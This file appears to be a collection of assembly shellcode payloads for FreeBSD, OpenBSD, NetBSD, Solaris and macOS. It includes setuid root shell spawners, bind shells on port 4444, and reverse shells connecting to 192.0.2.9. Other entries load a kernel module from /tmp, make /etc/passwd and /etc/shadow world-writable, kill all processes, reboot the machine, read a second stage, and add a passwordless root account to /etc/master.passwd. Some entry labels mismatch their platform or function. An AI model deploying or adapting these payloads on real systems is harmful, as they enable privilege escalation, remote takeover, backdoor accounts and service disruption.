; FreeBSD, OpenBSD, NetBSD, Solaris and macOS: conventions and numbers.

;= freebsd_setuid_exec 32 | freebsd x86 | execute /bin//sh
	xor eax, eax
	push eax
	push eax
	mov al, 23
	int 80h
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push esp
	push ebx
	push eax
	mov al, 59
	int 80h

;= freebsd_kernel_module 32 | freebsd x86 | call kldload
	xor eax, eax
	push eax
	push dword 'd.ko'
	push dword '/mo'
	push dword '/tmp'
	mov ebx, esp
	push ebx
	push eax
	mov ax, 304
	int 80h

;= freebsd_reboot 32 | freebsd x86 | call system.shutdown reboot
	xor eax, eax
	push eax
	push eax
	mov al, 55
	int 80h

;= freebsd_kill 32 | freebsd x86 | call process.terminate
	push byte 9
	push byte -1
	push byte 0
	push byte 37
	pop eax
	int 80h

;= freebsd_chmod 32 | freebsd x86 | call file.attributes /etc//passwd
	xor eax, eax
	push eax
	push dword 'sswd'
	push dword '//pa'
	push dword '/etc'
	mov ebx, esp
	push word 0666o
	push ebx
	push eax
	mov al, 15
	int 80h

;= gate_exec 32 | solaris x86 | execute //bin/sh
	xor eax, eax
	push eax
	push dword 'n/sh'
	push dword '//bi'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	push eax
	mov al, 59
	call 7:0

;= freebsd_reverse 32 | freebsd x86 | connect 192.0.2.9
	xor ecx, ecx
	mul ecx
	push eax
	inc eax
	push eax
	inc eax
	push eax
	push eax
	mov al, 97
	int 80h
	mov edx, eax
	push dword 0x090200c0
	push dword 0x39300210
	mov ecx, esp
	push byte 16
	push ecx
	push edx
	push edx
	xor eax, eax
	mov al, 98
	int 80h
	xor ecx, ecx
d:	push ecx
	push edx
	push edx
	push byte 90
	pop eax
	int 80h
	inc cl
	cmp cl, 3
	jne d
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov edx, esp
	push eax
	push edx
	push ebx
	push ebx
	mov al, 59
	int 80h

;= openbsd_bind 32 | freebsd x86 | bind
	cdq
	xor eax, eax
	cdq
	push edx
	push dword 0x5c11ff02
	mov edi, esp
	push edx
	push byte 1
	push byte 2
	push edx
	mov al, 97
	int 80h
	xchg esi, eax
	push byte 16
	push edi
	push esi
	push edx
	push byte 104
	pop eax
	int 80h
	push edx
	push esi
	push edx
	mov al, 106
	int 80h
	push edx
	push edx
	push esi
	push edx
	mov al, 30
	int 80h
	xchg esi, eax
	push byte 2
	pop ecx
l:	push ecx
	push esi
	push edx
	mov al, 90
	int 80h
	dec ecx
	jns l
	push edx
	push dword '/ksh'
	push dword '/bin'
	mov ebx, esp
	push edx
	push ebx
	mov ecx, esp
	push edx
	push ecx
	push ebx
	push edx
	mov al, 59
	int 80h

;= netbsd_syscall 32 | freebsd x86 | execute /bin//sh
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push eax
	push ebx
	push byte 59
	push eax
	xor eax, eax
	int 80h

;= netbsd_jmpcall 32 | freebsd x86 | execute /bin/sh
	jmp short b
a:	pop esi
	xor eax, eax
	mov [esi + 7], al
	mov [esi + 12], eax
	mov [esi + 8], esi
	lea edx, [esi + 12]
	lea ecx, [esi + 8]
	push edx
	push ecx
	push esi
	push eax
	mov al, 59
	int 80h
b:	call a
	db '/bin/sh'

;= freebsd_read_stage 32 | freebsd x86 | call read 0
	xor eax, eax
	cdq
	mov dh, 4
	mov ecx, esp
	push edx
	push ecx
	push eax
	push eax
	mov al, 3
	int 80h
	jmp ecx

;= freebsd64_bind 64 | freebsd x86_64 | bind 4444
	push 97
	pop rax
	push 2
	pop rdi
	push 1
	pop rsi
	xor edx, edx
	syscall
	mov r12d, eax
	mov edi, eax
	push rdx
	mov rcx, 0x000000005c110210
	push rcx
	mov rsi, rsp
	mov dl, 16
	push 104
	pop rax
	syscall
	push 106
	pop rax
	mov edi, r12d
	push 1
	pop rsi
	syscall
	push 30
	pop rax
	mov edi, r12d
	xor esi, esi
	xor edx, edx
	syscall
	mov edi, eax
	push 2
	pop rsi
l:	push 90
	pop rax
	syscall
	dec rsi
	jns l
	push 59
	pop rax
	cdq
	push rdx
	mov rbx, '/bin//sh'
	push rbx
	push rsp
	pop rdi
	xor esi, esi
	syscall

;= freebsd64_setreuid 64 | freebsd x86_64 | call process.terminate
	xor edi, edi
	xor esi, esi
	push 126
	pop rax
	syscall
	push 20
	pop rax
	syscall
	mov edi, eax
	push 9
	pop rsi
	push 37
	pop rax
	syscall

;= macos64_setreuid 64 | macos x86_64 | execute /bin/zsh
	xor edi, edi
	xor esi, esi
	mov eax, 0x200007e
	syscall
	lea rdi, [rel s]
	xor esi, esi
	xor edx, edx
	mov eax, 0x200003b
	syscall
s:	db '/bin/zsh', 0

;= macos64_bind 64 | macos x86_64 | bind 4444
	mov r8b, 2
	shl r8, 24
	or r8, 97
	mov eax, r8d
	push 2
	pop rdi
	push 1
	pop rsi
	xor edx, edx
	syscall
	mov r12, rax
	mov rdi, rax
	xor r13d, r13d
	push r13
	mov r13, 0x5c110210
	push r13
	mov rsi, rsp
	push 16
	pop rdx
	mov eax, 0x2000068
	syscall
	mov rdi, r12
	push 1
	pop rsi
	mov eax, 0x200006a
	syscall
	mov rdi, r12
	xor esi, esi
	xor edx, edx
	mov eax, 0x200001e
	syscall
	mov rdi, rax
	mov eax, 0x200005a
	xor esi, esi
	syscall
	mov eax, 0x200005a
	inc esi
	syscall
	xor esi, esi
	mov rbx, '/bin//sh'
	push rsi
	push rbx
	mov rdi, rsp
	xor edx, edx
	mov eax, 0x200003b
	syscall

;= solaris_setuid_exec 32 | solaris x86 | execute /bin//sh
	xor eax, eax
	push eax
	push eax
	mov al, 23
	call 7:0
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	push eax
	mov al, 59
	call 27h:0

;= solaris_built_gate 32 | solaris x86 | execute /bin//sh
	push dword 0x3cffffff
	xor eax, eax
	push word 0x0700
	mov ebx, 0xff
	nop
	xor eax, eax
	push dword 0xc3000700
	push dword 0x00000000
	mov byte [esp + 0], 0x9a
	mov byte [esp + 5], 7
	mov byte [esp + 6], 0
	mov byte [esp + 7], 0xc3
	mov esi, esp
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	mov al, 59
	call esi

;= solaris_chmod 32 | solaris x86 | call file.attributes /etc/shadow
	jmp short b
a:	pop esi
	xor eax, eax
	mov [esi + 11], al
	push word 0666o
	push esi
	push eax
	mov al, 15
	int 91h
	push eax
	mov al, 1
	int 91h
b:	call a
	db '/etc/shadow '

;= solaris_reverse 32 | solaris x86 | connect 192.0.2.9
	xor eax, eax
	push eax
	push byte 1
	push eax
	push byte 2
	push byte 2
	push eax
	mov al, 230
	int 91h
	mov edi, eax
	push dword 0x090200c0
	push dword 0x5c110002
	mov ebx, esp
	push byte 2
	push byte 16
	push ebx
	push edi
	push eax
	xor eax, eax
	mov al, 235
	int 91h
	push byte 2
	pop ecx
l:	push ecx
	push byte 9
	push edi
	push eax
	push byte 62
	pop eax
	int 91h
	pop ecx
	pop ecx
	pop ecx
	pop ecx
	dec ecx
	jns l
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	push eax
	mov al, 59
	int 91h

;= solaris_gatefn 32 | solaris x86 | execute /bin//sh
	jmp short m
g:	pop edi
	xor eax, eax
	mov [edi + 1], eax
	mov byte [edi + 6], al
	jmp short w
m:	call g
f:	db 0x9a, 1, 1, 1, 1, 7, 1, 0xc3
w:	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	mov al, 59
	call edi

;= freebsd_portbind64_rand 32 | freebsd x86 | execute /bin//sh
	xor ecx, ecx
	mul ecx
	push ecx
	push byte 1
	push byte 2
	push eax
	mov al, 97
	int 80h
	xchg edi, eax
	push ecx
	push edi
	push ecx
	push byte 106
	pop eax
	int 80h
	push ecx
	push ecx
	push edi
	push ecx
	push byte 30
	pop eax
	int 80h
	xchg edi, eax
	push byte 2
	pop esi
d:	push esi
	push edi
	push ecx
	push byte 90
	pop eax
	int 80h
	dec esi
	jns d
	xor eax, eax
	push eax
	push dword '//sh'
	push dword '/bin'
	mov ebx, esp
	push eax
	push ebx
	mov ecx, esp
	push eax
	push ecx
	push ebx
	push eax
	mov al, 59
	int 80h

;= solaris_findsock 32 | solaris x86 | call getpeername
	xor ebx, ebx
	mov ebp, esp
	push dword 0x3cffffff
	push byte 0x7f
	sub esp, byte 0x20
	mov edi, esp
n:	inc ebx
	cmp ebx, 0x100
	je x
	push byte 16
	mov ecx, esp
	push byte 1
	push ecx
	push edi
	push ebx
	xor eax, eax
	push eax
	mov al, 243
	int 91h
	add esp, byte 24
	cmp word [edi + 2], 0x5c11
	jne n
x:	push ebx
	push eax
	push byte 1
	pop eax
	int 91h

;= macos64_system 64 | macos x86_64 | execute /bin/sh -c
	jmp b
a:	pop rdi
	xor eax, eax
	mov [rdi + 7], al
	lea rcx, [rdi + 8]
	lea rdx, [rdi + 11]
	push rax
	push rdx
	push rcx
	push rdi
	mov rsi, rsp
	xor edx, edx
	mov eax, 0x200003b
	syscall
b:	call a
	db '/bin/shX-c', 0, 'id;say hello', 0

;= netbsd_reboot 32 | freebsd x86 | call system.shutdown
	xor eax, eax
	cdq
	push eax
	mov al, 2
	push edx
	push byte 8
	push eax
	mov al, 55
	int 80h

;= openbsd_adduser 32 | freebsd x86 | write /etc/master
	jmp short b
a:	pop esi
	xor eax, eax
	mov [esi + 18], al
	push byte 9
	push esi
	push eax
	mov al, 5
	int 80h
	push byte 40
	lea ecx, [esi + 19]
	push ecx
	push eax
	push eax
	push byte 4
	pop eax
	int 80h
	push eax
	push byte 1
	pop eax
	int 80h
b:	call a
	db '/etc/master.passwd', 'Xkenbi::0:0::0:0:x:/root:/bin/sh', 10, '        '
